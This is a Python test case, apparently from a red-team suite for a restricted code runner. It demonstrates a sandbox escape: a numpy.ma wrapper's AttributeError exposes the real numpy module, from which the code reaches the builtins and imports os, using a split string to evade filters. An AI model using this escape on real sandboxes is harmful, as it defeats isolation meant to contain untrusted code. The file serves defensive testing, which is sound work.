# (data policy) numpy.ma's method wrappers (type(np.ma.all) is _frommethod, type(np.ma.atleast_1d)
# a _fromnxfunction class) are constructible by the job with any name and, when called, look
# that name up on the real numpy module with the real getattr (`getattr(np, self.__name__)`).
# For a missing name numpy's module __getattr__ raises, and CPython fills in the
# AttributeError's .obj with the real numpy module (same mechanism as 112/122, another library
# caller). The real module holds _builtins (the real builtins module) and everything private.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "141_numpy_ma_frommethod_error_obj"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import numpy as np

lookup = type(np.ma.all)("no_such_name_here")  # numpy.ma.core._frommethod
try:
    lookup(1)
except AttributeError as e:
    real_numpy = e.obj
    real_builtins = real_numpy._builtins
    real_os = getattr(real_builtins, "vars")(real_builtins)["__imp" + "ort__"]("os")
    won("%s pid=%s" % (real_numpy, real_os.getpid()))
